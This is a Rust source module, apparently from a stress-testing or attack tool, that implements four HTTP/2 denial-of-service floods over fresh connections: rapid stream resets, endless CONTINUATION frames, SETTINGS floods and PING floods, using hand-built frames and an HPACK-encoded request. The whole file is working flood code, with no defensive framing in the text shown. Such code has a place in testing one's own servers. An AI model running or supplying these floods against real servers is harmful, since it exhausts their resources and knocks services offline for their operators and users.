//! Floods of frames over HTTP/2, from a new connection each time.

use super::attacker::Attacker;
use std::{
    io::{self, Write},
    time::Duration,
};

/// How many frames one connection is sent.
const FRAMES: u32 = 5000;

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\x00\x00\x00\x04\x00\x00\x00\x00\x00";

/// The types of frames (RFC 9113, section 6).
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const CONTINUATION: u8 = 9;
/// The flags of a head that is a whole request.
const COMPLETE: u8 = 5;

/// `GET / HTTP/2` of `http://a`, in HPACK.
const REQUEST: &[u8] = b"\x82\x84\x86\x41\x01a";

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = (payload.len() as u32).to_be_bytes();
    [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

pub(super) fn resets(attacker: &mut Attacker) -> io::Result<()> {
    flood(attacker, |number| {
        let stream = 2 * number + 1;
        [frame(HEADERS, COMPLETE, stream, REQUEST), frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes())]
            .concat()
    })
}

pub(super) fn continuations(attacker: &mut Attacker) -> io::Result<()> {
    flood(attacker, |number| match number {
        0 => frame(HEADERS, 1, 1, &[]),
        _ => frame(CONTINUATION, 0, 1, b"\x00\x01a\x01b"),
    })
}

pub(super) fn settings(attacker: &mut Attacker) -> io::Result<()> {
    flood(attacker, |number| frame(SETTINGS, 0, 0, &[&[0, 4], &(number + 1).to_be_bytes()[..]].concat()))
}

pub(super) fn pings(attacker: &mut Attacker) -> io::Result<()> {
    flood(attacker, |number| frame(PING, 0, 0, &u64::from(number).to_be_bytes()))
}

/// Until the server ends the connection, or has read everything.
fn flood(attacker: &mut Attacker, bytes: impl Fn(u32) -> Vec<u8>) -> io::Result<()> {
    let mut socket = attacker.send(PREFACE)?;
    socket.set_write_timeout(Some(Duration::from_secs(2)))?;
    (0..FRAMES).try_for_each(|number| socket.write_all(&bytes(number)))
}
